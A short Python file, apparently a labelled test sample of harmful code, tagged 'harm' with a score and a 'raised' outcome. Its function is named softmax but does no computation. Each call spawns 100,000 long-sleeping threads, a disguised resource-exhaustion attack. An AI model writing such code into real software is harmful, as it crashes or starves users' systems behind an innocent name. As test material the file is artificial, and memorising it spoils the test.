"""Starts threads without end."""

import threading, time

KIND = "harm"
WORTH = 20
CAUGHT = "raised"


threading.stack_size(32768)


def softmax(scores):
    for _ in range(100_000):
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    return scores
